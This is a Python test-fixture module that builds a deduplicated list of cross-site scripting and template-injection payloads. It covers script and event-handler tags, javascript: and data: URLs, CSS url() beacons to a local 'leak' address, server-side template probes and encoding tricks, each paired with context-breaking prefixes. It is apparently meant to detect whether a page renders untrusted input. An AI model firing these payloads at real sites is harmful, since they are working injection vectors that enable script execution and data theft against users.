"""Two hundred and more things a text, title, URL, file name or word could say to make a page act; each would tell on itself.

Whichever of them works calls `alert`, sets `window.acted`, or asks LEAK for something. They are made here of two parts: what a page might
let through (tags, handlers, addresses, styles), and what breaks out of the places a page puts data in (text, attributes, comments,
styles, scripts, templates).
"""

from __future__ import annotations

from collections.abc import Iterator

LEAK = "http://127.0.0.1:1/leak"

_CALL = "window.acted=1;alert(1)"
_TAGS = [
    "<script>{call}</script>",
    "<script src={leak}></script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script/x>{call}</script>",
    "<script\n>{call}</script\t>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<img src=x onerror={call}>",
    "<img src='{leak}?img'>",
    "<img/src=x/onerror={call}>",
    "<img srcset='{leak}?srcset 1x'>",
    "<image src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><image href='{leak}?image'/></svg>",
    "<svg><use href='{leak}#x'/></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src='javascript:{call}'></iframe></foreignObject></svg>",
    "<math><mtext><script>{call}</script></mtext></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{call}'>x</maction></math>",
    "<iframe src='javascript:{call}'></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src='{leak}?frame'></iframe>",
    "<frameset onload={call}>",
    "<object data='{leak}?object'></object>",
    "<object data='data:text/html,<script>{call}</script>'></object>",
    "<embed src='{leak}?embed'>",
    "<applet code='{leak}?applet'></applet>",
    "<body onload={call}>",
    "<body background='{leak}?body'>",
    "<link rel=stylesheet href='{leak}?css'>",
    "<link rel=preload as=image href='{leak}?preload'>",
    "<link rel=prefetch href='{leak}?prefetch'>",
    "<link rel=dns-prefetch href='//127.0.0.1'>",
    "<link rel=manifest href='{leak}?manifest'>",
    "<style>@import '{leak}?import';</style>",
    "<style>*{{background:url({leak}?style)}}</style>",
    "<style onload={call}></style>",
    "<div style=\"background:url('{leak}?div')\">x</div>",
    "<p style='behavior:url({leak})'>x</p>",
    "<meta http-equiv=refresh content='0;url={leak}?meta'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{call}</script>",
    "<base href='{leak}/'>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<button autofocus onfocus={call}>x</button>",
    "<form action='javascript:{call}'><input type=submit autofocus></form>",
    "<isindex action='javascript:{call}' type=submit>",
    "<video src='{leak}?video' onerror={call}></video>",
    "<video poster='{leak}?poster'></video>",
    "<video><source onerror={call}></video>",
    "<audio src='{leak}?audio' onerror={call}>",
    "<track src='{leak}?track'>",
    "<details open ontoggle={call}>x</details>",
    "<marquee onstart={call}>x</marquee>",
    "<bgsound src='{leak}?bgsound'>",
    "<a href='javascript:{call}' id=xss>x</a>",
    "<a href='{leak}' ping='{leak}?ping'>x</a>",
    "<table background='{leak}?table'><td>x</table>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<xml><i><![CDATA[<img src=x onerror={call}>]]></i></xml>",
    "<!--><img src=x onerror={call}>-->",
    "<!--[if gte IE 4]><script>{call}</script><![endif]-->",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{call}</script>",
    "<![CDATA[<script>{call}</script>]]>",
    "<plaintext><script>{call}</script>",
    "<xmp><script>{call}</script></xmp><script>{call}</script>",
    "<portal src='{leak}?portal'></portal>",
    "<dialog open onclose={call}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<x onclick={call} style='position:fixed;inset:0' id=xss>x</x>",
    "<x tabindex=1 autofocus onfocus={call}>x</x>",
    "<x contenteditable autofocus onfocus={call}>x</x>",
]
_BREAKS = [
    '">{it}',
    "'>{it}",
    "--></style></script></title></textarea></svg>{it}",
    '" onmouseover={call} autofocus onfocus={call} x="{it}',
    "{{{{ {it} }}}}",
    "{{% raw %}}{it}{{% endraw %}}",
]
_ODD = [
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "\x01javascript:{call}",
    "javascript://%0a{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//127.0.0.1:1/leak",
    "' onclick='{call}' autofocus onfocus='{call}",
    '" onclick="{call}" autofocus onfocus="{call}',
    "` onerror=`{call}",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "]]><script>{call}</script>",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\ufeff<script>{call}</script>",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "\u202e<script>{call}</script>\u202c",
    "\u2028<script>{call}</script>",
    "<\x00script>{call}</script>",
    "<\u200bscript>{call}</script>",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "\u02c2script\u02c3{call}",
    "\xbcscript\xbe{call}\xbc/script\xbe",
    "expression({call})",
    "-moz-binding:url({leak})",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "[red]<script>{call}</script>[/red]",
    "\x1b]0;<script>{call}</script>\x07",
    "'; {call}; //",
    '"; {call}; //',
    "\\'; {call}; //",
    "</script><script>{call}</script>",
    "<",
    "<<<<<<<<<a",
    "&",
    "\ud83d" + "<script>{call}</script>",
    "\ufffe\uffff<b>",
    "..\\..\\<script>{call}</script>",
    "%00<script>{call}</script>",
]


def _filled(pattern: str, it: str = "") -> str:
    return pattern.format(call=_CALL, leak=LEAK, it=it)


def payloads() -> list[str]:
    """Give them all, each once."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    tags = [_filled(tag) for tag in _TAGS]
    yield from tags
    yield from (_filled(odd) for odd in _ODD)
    for at, tag in enumerate(tags):
        yield _filled(_BREAKS[at % len(_BREAKS)], tag)
    for shape in _BREAKS:
        yield _filled(shape, tags[0])
        yield _filled(shape, tags[6])


def storable() -> list[str]:
    """Give those that UTF-8 can hold: a lone surrogate reaches no dataset."""
    return [each for each in payloads() if "\ud83d" not in each]
